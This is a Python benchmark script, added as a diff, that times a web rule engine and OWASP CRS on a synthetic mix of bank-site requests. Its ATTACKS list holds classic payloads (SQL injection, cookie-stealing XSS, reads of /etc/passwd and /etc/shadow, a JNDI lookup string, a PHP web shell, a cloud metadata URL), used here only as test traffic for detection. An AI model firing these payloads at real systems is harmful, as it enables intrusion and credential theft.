@@ -1,0 +1,138 @@
+"""Benchmark the web rule engine: requests/s per core and p50/p99 inspection latency.
+
+A realistic mix — 95% benign (page views with browser headers and cookies, searches in English and
+Chinese, JSON API calls, form posts, a multipart upload) and 5% attacks (SQLi, XSS, RCE, LFI, scanner) —
+is inspected in one process (one core) by fsbrain's default rules and by OWASP CRS at PL1 and PL2.
+Requests are built before timing; the time measured is ``engine.inspect`` only.
+
+Usage::
+
+    python bench/bench_web_rules.py [--crs ../shared/data/crs-regression] [--n 3000] [--out docs/benchmarks/web_rules.md]
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import random
+import statistics
+import sys
+import time
+from pathlib import Path
+from urllib.parse import quote
+
+sys.path.insert(0, str(Path(__file__).resolve().parent))
+
+from _machine import describe  # noqa: E402
+
+from fsbrain.domains.web import HttpRequest, WebRuleEngine  # noqa: E402
+
+UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
+       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
+       "Mobile/15E148 Safari/604.1",
+       "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15"]
+WORDS = ["savings account", "credit card limit", "mortgage rates 2026", "转账限额", "信用卡 年费", "理财产品 收益",
+         "branch near me", "how to reset password", "外汇 汇率 美元", "loan calculator"]
+ATTACKS = ["1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "<script>alert(document.cookie)</script>",
+           "\"><img src=x onerror=alert(1)>", ";cat /etc/passwd", "../../../../etc/shadow", "${jndi:ldap://x.example/a}",
+           "<?php system($_GET['c']); ?>", "http://169.254.169.254/latest/meta-data/"]
+
+
+def _headers(rng: random.Random) -> list[tuple[str, str]]:
+    return [("Host", "bank.example.com"), ("User-Agent", rng.choice(UAS)),
+            ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"),
+            ("Accept-Language", "zh-CN,zh;q=0.9,en;q=0.8"), ("Accept-Encoding", "gzip, deflate, br"),
+            ("Cookie", f"sid={rng.getrandbits(64):016x}; lang=zh-CN; _ga=GA1.2.{rng.randint(1, 10**9)}.1700000000"),
+            ("Referer", "https://bank.example.com/home")]
+
+
+def make_mix(n: int, seed: int = 7) -> list[HttpRequest]:
+    """``n`` requests: 95% benign of five kinds, 5% attacks."""
+    rng = random.Random(seed)
+    out: list[HttpRequest] = []
+    for i in range(n):
+        h = _headers(rng)
+        kind = rng.random()
+        if i % 20 == 19:
+            out.append(HttpRequest(method="GET", uri="/search?q=" + quote(rng.choice(ATTACKS)), headers=h))
+        elif kind < 0.45:
+            out.append(HttpRequest(method="GET", uri=f"/products/{rng.randint(1, 999)}?ref=home&page={rng.randint(1, 9)}",
+                                   headers=h))
+        elif kind < 0.65:
+            out.append(HttpRequest(method="GET", uri="/search?q=" + quote(rng.choice(WORDS)) + "&sort=relevance",
+                                   headers=h))
+        elif kind < 0.85:
+            body = json.dumps({"account": f"62{rng.randint(10**14, 10**15)}", "amount": round(rng.random() * 5000, 2),
+                               "memo": rng.choice(WORDS), "currency": "CNY"}, ensure_ascii=False)
+            out.append(HttpRequest(method="POST", uri="/api/v1/transfer",
+                                   headers=h + [("Content-Type", "application/json"), ("Content-Length", str(len(body)))],
+                                   body=body.encode()))
+        elif kind < 0.97:
+            body = f"username=user{rng.randint(1, 9999)}&password=S3cret%21{rng.randint(1, 99)}&remember=on"
+            out.append(HttpRequest(method="POST", uri="/login", headers=h + [
+                ("Content-Type", "application/x-www-form-urlencoded"), ("Content-Length", str(len(body)))],
+                body=body.encode()))
+        else:
+            body = (b"--b1\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nstatement\r\n--b1\r\n"
+                    b"Content-Disposition: form-data; name=\"file\"; filename=\"march.pdf\"\r\n"
+                    b"Content-Type: application/pdf\r\n\r\n%PDF-1.4 ...\r\n--b1--\r\n")
+            out.append(HttpRequest(method="POST", uri="/upload", headers=h + [
+                ("Content-Type", "multipart/form-data; boundary=b1"), ("Content-Length", str(len(body)))], body=body))
+    return out
+
+
+def run(engine: WebRuleEngine, n: int) -> dict[str, float]:
+    """Inspect a fresh mix once for warm-up, then time a second fresh mix request by request."""
+    for r in make_mix(min(n, 300), seed=1):
+        engine.inspect(r)
+    reqs = make_mix(n)
+    lat: list[float] = []
+    blocked = 0
+    t_all = time.perf_counter()
+    for r in reqs:
+        t0 = time.perf_counter()
+        v = engine.inspect(r)
+        lat.append(time.perf_counter() - t0)
+        blocked += v.blocked
+    total = time.perf_counter() - t_all
+    lat.sort()
+    return {"rps": n / total, "p50_ms": statistics.median(lat) * 1000,
+            "p99_ms": lat[min(len(lat) - 1, int(len(lat) * 0.99))] * 1000, "blocked": blocked, "n": n}
+
+
+def main() -> None:
+    ap = argparse.ArgumentParser(description=__doc__)
+    ap.add_argument("--crs", type=Path, default=Path(__file__).resolve().parents[1].parent / "shared/data/crs-regression")
+    ap.add_argument("--n", type=int, default=3000)
+    ap.add_argument("--out", type=Path, default=Path(__file__).resolve().parents[1] / "docs/benchmarks/web_rules.md")
+    args = ap.parse_args()
+    engines: list[tuple[str, WebRuleEngine]] = [("fsbrain default rules, PL1", WebRuleEngine.default(paranoia=1)),
+                                                ("fsbrain default rules, PL2", WebRuleEngine.default(paranoia=2))]
+    if (args.crs / "rules").is_dir() or args.crs.is_dir():
+        engines += [("OWASP CRS v4, PL1", WebRuleEngine.from_crs(args.crs, paranoia=1)),
+                    ("OWASP CRS v4, PL2", WebRuleEngine.from_crs(args.crs, paranoia=2))]
+    rows = []
+    for name, eng in engines:
+        res = run(eng, args.n)
+        rows.append((name, res))
+        print(f"{name}: {res['rps']:.0f} req/s, p50 {res['p50_ms']:.2f} ms, p99 {res['p99_ms']:.2f} ms, "
+              f"blocked {res['blocked']}/{res['n']}", flush=True)
+    load = os.getloadavg()
+    lines = ["# Web rule engine benchmark", "",
+             f"Machine: {describe()}", f"Load average during the run: {load[0]:.2f} {load[1]:.2f} {load[2]:.2f} "
+             "(other work shares these cores; numbers are lower bounds).", "",
+             f"Mix: {args.n} requests, 95% benign (page views, English/Chinese searches, JSON transfers, form logins, "
+             "multipart uploads, browser headers and cookies), 5% attacks. One process, one core; time is "
+             "`engine.inspect` only.", "",
+             "| engine | requests/s per core | p50 ms | p99 ms | blocked |", "|---|---|---|---|---|"]
+    lines += [f"| {n} | {r['rps']:.0f} | {r['p50_ms']:.2f} | {r['p99_ms']:.2f} | {r['blocked']}/{r['n']} |"
+              for n, r in rows]
+    lines += ["", "Reproduce: `.venv/bin/python bench/bench_web_rules.py`", ""]
+    args.out.parent.mkdir(parents=True, exist_ok=True)
+    args.out.write_text("\n".join(lines), encoding="utf-8")
+    print(f"wrote {args.out}")
+
+
+if __name__ == "__main__":
+    main()
